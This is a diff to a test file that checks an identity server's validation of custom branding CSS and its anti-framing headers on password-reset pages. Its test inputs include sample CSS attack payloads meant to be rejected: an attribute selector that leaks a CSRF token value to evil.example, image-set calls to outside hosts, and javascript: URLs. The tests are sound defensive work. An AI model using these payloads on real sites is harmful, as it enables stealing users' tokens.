@@ -76,6 +76,10 @@ for (const dialect of dialects) {
         ['body{background:url( "javascript:alert(1)")}', /url\(\) only/],
         ['body{background:u\\72l(http://evil.example/p.png)}', /backslash/],
         ['p{width:expression(alert(1))}', /expression/],
+        ['body{background-image:image-set("/realms/x/interaction/y/link" 1x)}', /only through url\(\)/],
+        ['body{background:-webkit-image-set("//evil.example/p.png" 1x)}', /only through url\(\)/],
+        ['form:has(input[name=csrf][value^="a"]) button{background:url(https://evil.example/a)}', /attribute selectors that match values/],
+        ['input[type="password"]{border-width:2px}', /attribute selectors that match values/],
         ['x'.repeat(16 * 1024 + 1), /more than 16384 characters/],
         [`/* ${'é'.repeat(9000)} */`, /at most 16 KB/],
       ];
@@ -84,7 +88,7 @@ for (const dialect of dialects) {
         assert.equal(details[0]!.field, 'branding.stylesheet', css.slice(0, 40));
         assert.match(details.map((d) => d.issue).join('; '), issue, css.slice(0, 40));
       }
-      const fine = await admin('PATCH', branded.id, { branding: { stylesheet: 'h1{letter-spacing:.02em;background:url("https://cdn.example/x.png")}' } });
+      const fine = await admin('PATCH', branded.id, { branding: { stylesheet: 'h1{letter-spacing:.02em;background:url("https://cdn.example/x.png")}input[disabled]{opacity:.5}' } });
       assert.equal(fine.status, 200, fine.text);
     });
 
@@ -138,6 +142,14 @@ for (const dialect of dialects) {
       assert.match(english.html, /Welcome to Greenleaf/);
       const french = await signInPage(branded, {}, { 'accept-language': 'fr' });
       assert.match(french.html, /<h1>Connexion<\/h1>/, 'a language without overrides speaks the shipped words');
+
+      // A page the sign-in leads to may be framed as it is; one an emailed link opens never is.
+      const forgot = await fetch(`${server.baseUrl}/realms/${branded.id}/forgot-password`);
+      assert.match(forgot.headers.get('content-security-policy') ?? '', /frame-ancestors https:\/\/portal\.example;/);
+      const reset = await fetch(`${server.baseUrl}/realms/${branded.id}/pages/reset-password?token=${'x'.repeat(43)}`);
+      assert.match(await reset.text(), /--kr-primary:#0b6e4f/, 'in the realm’s colours all the same');
+      assert.match(reset.headers.get('content-security-policy') ?? '', /frame-ancestors 'none'/);
+      assert.equal(reset.headers.get('x-frame-options'), 'DENY');
     });
 
     it('never shows one realm’s branding or words on another’s pages', async () => {
